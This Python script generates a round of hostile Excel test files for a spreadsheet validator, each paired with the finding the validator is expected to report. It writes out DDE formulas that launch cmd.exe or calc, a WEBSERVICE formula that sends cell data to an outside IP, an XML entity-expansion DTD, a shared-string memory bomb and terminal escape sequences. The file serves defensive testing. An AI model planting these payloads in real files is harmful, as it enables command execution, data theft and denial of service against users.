"""Hostile files, round two (issue 15): kinds that killed or hung the process, numbers that
became internal errors, file names that broke outputs, links that went unflagged.

    python tests/hostile/make_round2.py OUT_DIR

``make_round2(out_dir) -> {kind: path}``; every kind is generated (no committed binaries),
all small (the shared-string bomb is ~25 KB on disk). ``EXPECTED2[kind]`` is what
``jixiao validate`` must say:

* ``("unreadable", words)``: exit 3, an ``[unreadable]`` line with every Chinese word;
* ``("read", checks)``: exit 0 or 1, and every finding check id in ``checks`` reported.
"""

from __future__ import annotations

import io
import os
import sys
import zipfile
from pathlib import Path

from tests.hostile.make_corpus import _part, _rewrite_zip, _save, scoring_workbook

NS_MAIN = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SST_CT = (b"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml")

EXPECTED2: dict[str, tuple[str, tuple[str, ...]]] = {
    # memory: one 3 MB shared string referenced by 3,000 cells (calamine would build 9 GB)
    "sst_bomb": ("unreadable", ("共享字符串", "上限")),
    # time: super-linear regexes on long formulas / defined names / rule texts
    "long_formula_extref": ("read", ()),
    "long_defined_name": ("read", ()),
    "rule_text_32767_digits": ("read", ()),
    "many_error_cells_unclosed": ("read", ()),
    # numbers: finite and bounded, or a finding
    "score_1e30": ("read", ("score-not-number",)),
    "cached_huge_float": ("read", ("score-not-number",)),
    "rule_circled_digit": ("read", ()),
    "number_60_digits": ("read", ("value-unreadable",)),
    # names and text
    "gbk_file_name": ("read", ()),
    "newline_file_name": ("read", ()),
    "long_file_name": ("read", ()),
    "control_chars": ("read", ()),
    # links and DTDs wherever the package puts them
    "extlink_odd_path": ("read", ("external-link",)),
    "dde_in_validation": ("read", ("external-link",)),
    "dde_in_cond_format": ("read", ("external-link",)),
    "webservice_formula": ("read", ("external-link",)),
    "dtd_in_png_sst": ("unreadable", ("XML实体声明",)),
    # damaged parts that openpyxl/zipfile reported in English
    "encrypted_media_entry": ("unreadable", ("加密",)),
    "bad_crc_media": ("unreadable", ("损坏",)),
    "symlink_loop": ("unreadable", ("符号链接",)),
}


def _sheet(base: Path) -> bytes:
    return _part(base, "xl/worksheets/sheet1.xml")


def _with_sst(base: Path, dst: Path, sheet_xml: bytes, sst: bytes, *, sst_name: str =
              "xl/sharedStrings.xml") -> Path:  # fmt: skip
    """``base`` with a new sheet1 and a shared-string part registered under ``sst_name``."""
    target = sst_name[3:] if sst_name.startswith("xl/") else "/" + sst_name
    ct = _part(base, "[Content_Types].xml").replace(
        b"</Types>", b'<Override PartName="/' + sst_name.encode() + b'" ContentType="' + SST_CT
        + b'"/></Types>')  # fmt: skip
    rels = _part(base, "xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>", b'<Relationship Id="rIdSST" Type="' + REL + b'/sharedStrings" Target="'
        + target.encode() + b'"/></Relationships>')  # fmt: skip
    return _rewrite_zip(base, dst, {"[Content_Types].xml": ct, "xl/_rels/workbook.xml.rels": rels,
                                    "xl/worksheets/sheet1.xml": sheet_xml}, {sst_name: sst})


def _replace_cell(sheet_xml: bytes, ref: str, new_cell: bytes) -> bytes:
    import re

    pat = re.compile(rb'<c r="' + ref.encode() + rb'"[^>]*?(?:/>|>.*?</c>)', re.DOTALL)
    out, n = pat.subn(new_cell, sheet_xml, count=1)
    assert n == 1, ref
    return out


def make_round2(out_dir: str | os.PathLike[str]) -> dict[str, Path]:
    """Build every round-two kind under ``out_dir``; returns ``{kind: path}``."""
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    k: dict[str, Path] = {}
    base = _save(scoring_workbook(), out / "_base2.xlsx")
    sheet = _sheet(base)

    # ---- sst_bomb: 3,000 cells all pointing at one 3 MB shared string
    rows = b"".join(b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (r, r)
                    for r in range(1, 3001))
    bomb_sheet = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="' + NS_MAIN
                  + b'"><sheetData>' + rows + b"</sheetData></worksheet>")
    sst = (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="' + NS_MAIN
           + b'" count="3000" uniqueCount="1"><si><t>' + b"A" * (3 << 20) + b"</t></si></sst>")
    k["sst_bomb"] = _with_sst(base, out / "sst_bomb.xlsx", bomb_sheet, sst)

    # ---- long formulas / names: patterns that made the external-reference regex ~cubic
    wb = scoring_workbook()
    wb.active["K3"] = "=" + "file:[a]" * 1000  # 8,001 characters, no '!'
    wb.active["K4"] = "=" + '"' * 4001 + "a" * 3999
    k["long_formula_extref"] = _save(wb, out / "long_formula_extref.xlsx")

    from openpyxl.workbook.defined_name import DefinedName

    wb = scoring_workbook()
    wb.defined_names["长名称"] = DefinedName("长名称", attr_text="file:[a]" * 2000)  # 16,000
    k["long_defined_name"] = _save(wb, out / "long_defined_name.xlsx")

    wb = scoring_workbook()
    wb.active["F3"] = "9" * 32767  # a 评分标准 cell of 32,767 digits (Excel's cell limit)
    k["rule_text_32767_digits"] = _save(wb, out / "rule_text_32767_digits.xlsx")

    # 20,000 self-closing error cells and no </c> anywhere after them
    cells = b"".join(b'<c r="Z%d" t="e"/>' % r for r in range(1, 20001))
    k["many_error_cells_unclosed"] = _rewrite_zip(
        base, out / "many_error_cells_unclosed.xlsx",
        {"xl/worksheets/sheet1.xml": sheet.replace(b"</sheetData>", b'<row r="20002">' + cells
                                                   + b"</row></sheetData>")})  # fmt: skip

    # ---- numbers
    k["score_1e30"] = _rewrite_zip(base, out / "score_1e30.xlsx", {
        "xl/worksheets/sheet1.xml": _replace_cell(sheet, "I3", b'<c r="I3"><v>1E+30</v></c>')})
    k["cached_huge_float"] = _rewrite_zip(base, out / "cached_huge_float.xlsx", {
        "xl/worksheets/sheet1.xml": _replace_cell(
            sheet, "I4", b'<c r="I4"><f>H4*1E+300</f><v>1.79E+308</v></c>')})
    hdr = ["序号", "一级指标", "二级指标", "三级指标", "指标值", "评分标准", "计分规则", "分值",
           "业绩值", "得分"]  # fmt: skip
    k["rule_circled_digit"] = _save(scoring_workbook(rows=[
        [1, "产出指标", "数量指标", "培训人次", "≥1000", "完成得满分", "≥⑴:满分", 10, 1060, 10],
        [2, "产出指标", "质量指标", "合格率", "≥95%", "达到得满分", "≥9５%:满分", 10, 0.97, 10],
    ], headers=hdr), out / "rule_circled_digit.xlsx")
    wb = scoring_workbook()
    wb.active["H3"] = "1" * 60
    k["number_60_digits"] = _save(wb, out / "number_60_digits.xlsx")
    k["number_60_digits"] = _rewrite_zip(k["number_60_digits"], out / "number_60_digits.xlsx", {
        "xl/worksheets/sheet1.xml": _replace_cell(
            _sheet(k["number_60_digits"]), "H4", b'<c r="H4"><v>' + b"7" * 60 + b"</v></c>")})

    # ---- names
    if sys.platform.startswith("linux"):
        gbk = os.fsencode(str(out)) + b"/" + "县财政局评分表".encode("gbk") + b".xlsx"
        with open(gbk, "wb") as fh:
            fh.write(base.read_bytes())
        k["gbk_file_name"] = Path(os.fsdecode(gbk))
        p = out / "甲县.xlsx\n伪造.xlsx  评分表!I9  [score-mismatch]  伪造的问题.xlsx"
        p.write_bytes(base.read_bytes())
        k["newline_file_name"] = p
    name = "县" * 80 + "评分表"  # 249 bytes + ".xlsx" would be 254: the copy name is longer
    name = name[: (250 - len(".xlsx")) // 3]
    p = out / (name + ".xlsx")
    p.write_bytes(base.read_bytes())
    k["long_file_name"] = p
    # Excel escapes control characters in cell text as _xHHHH_ (ESC [2J clears the terminal)
    p = out / "control_chars\x1b[31m.xlsx" if os.name != "nt" else out / "control_chars.xlsx"
    k["control_chars"] = _rewrite_zip(base, p, {"xl/worksheets/sheet1.xml": _replace_cell(
        sheet, "D3", b'<c r="D3" t="inlineStr"><is><t>\xe5\x9f\xb9_x001B_[2J_x001B_]0;T_x0007_'
        b"_x0000_\xe8\xae\xad</t></is></c>")})

    # ---- links wherever they are stored
    ext_xml = (b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="' + NS_MAIN
               + b'" xmlns:r="' + REL + b'"><externalBook r:id="rId1"/></externalLink>')
    ext_rels = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
                b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="'
                + REL + b'/externalLinkPath" Target="\\\\10.0.0.9\\share\\budget.xlsx" '
                b'TargetMode="External"/></Relationships>')  # fmt: skip
    wb_rels = _part(base, "xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>", b'<Relationship Id="rIdX" Type="' + REL + b'/externalLink" '
        b'Target="links/l1.xml"/></Relationships>')  # fmt: skip
    k["extlink_odd_path"] = _rewrite_zip(
        base, out / "extlink_odd_path.xlsx", {"xl/_rels/workbook.xml.rels": wb_rels},
        {"xl/links/l1.xml": ext_xml, "xl/links/_rels/l1.xml.rels": ext_rels})

    dv = (b'<dataValidations count="1"><dataValidation type="list" sqref="H3"><formula1>'
          b"cmd|' /C calc'!A0</formula1></dataValidation></dataValidations>")
    k["dde_in_validation"] = _rewrite_zip(base, out / "dde_in_validation.xlsx", {
        "xl/worksheets/sheet1.xml": _insert_after_sheetdata(sheet, dv)})
    cf = (b'<conditionalFormatting sqref="H3"><cfRule type="expression" priority="1"><formula>'
          b"msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!A1</formula></cfRule>"
          b"</conditionalFormatting>")
    k["dde_in_cond_format"] = _rewrite_zip(base, out / "dde_in_cond_format.xlsx", {
        "xl/worksheets/sheet1.xml": _insert_after_sheetdata(sheet, cf)})
    wb = scoring_workbook()
    wb.active["K3"] = '=WEBSERVICE("http://203.0.113.5/x?"&A1)'
    wb.active["K4"] = '=FILTERXML("<a/>","//a")'
    wb.active["K5"] = '=RTD("my.server",,"topic")'
    k["webservice_formula"] = _save(wb, out / "webservice_formula.xlsx")

    dtd = (b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "' + b"x" * 100 + b'">'
           b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><sst xmlns="' + NS_MAIN
           + b'"><si><t>&b;</t></si></sst>')
    k["dtd_in_png_sst"] = _with_sst(base, out / "dtd_in_png_sst.xlsx",
                                    _replace_cell(sheet, "D3", b'<c r="D3" t="s"><v>0</v></c>'),
                                    dtd, sst_name="xl/media/image1.png")

    # ---- damaged binary parts
    k["encrypted_media_entry"] = _flag_media(base, out / "encrypted_media_entry.xlsx", encrypt=True)
    k["bad_crc_media"] = _flag_media(base, out / "bad_crc_media.xlsx", encrypt=False)
    p = out / "symlink_loop.xlsx"
    if hasattr(os, "symlink"):
        try:
            os.symlink(p.name, p)
            k["symlink_loop"] = p
        except OSError:
            pass
    base.unlink()
    return k


def _insert_after_sheetdata(sheet_xml: bytes, fragment: bytes) -> bytes:
    """Insert ``fragment`` where the schema wants it: after </sheetData> and <mergeCells>."""
    import re

    m = re.search(rb"</mergeCells>", sheet_xml) or re.search(rb"</sheetData>", sheet_xml)
    assert m is not None
    return sheet_xml[: m.end()] + fragment + sheet_xml[m.end():]


def _flag_media(base: Path, dst: Path, *, encrypt: bool, part: str = "xl/media/image1.png") -> Path:
    """Add the image ``part`` whose zip entry is marked encrypted, or has a wrong CRC."""
    buf = io.BytesIO()
    with zipfile.ZipFile(base) as zin, zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info))
        zout.writestr(part, b"\x89PNG\r\n\x1a\n" + b"\0" * 64)
    raw = bytearray(buf.getvalue())
    name = part.encode()
    for sig, name_off, flag_off, crc_off in ((b"PK\x03\x04", 30, 6, 14), (b"PK\x01\x02", 46, 8, 16)):
        pos = raw.find(sig)
        while pos >= 0:
            nlen = int.from_bytes(raw[pos + (26 if sig == b"PK\x03\x04" else 28):][:2], "little")
            if bytes(raw[pos + name_off: pos + name_off + nlen]) == name:
                if encrypt:
                    raw[pos + flag_off] |= 1
                else:
                    raw[pos + crc_off] ^= 0xFF
                break
            pos = raw.find(sig, pos + 4)
    dst.write_bytes(bytes(raw))
    return dst


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile_round2")
    for kind, path in make_round2(target).items():
        print(f"{kind:30s} {path!r}")
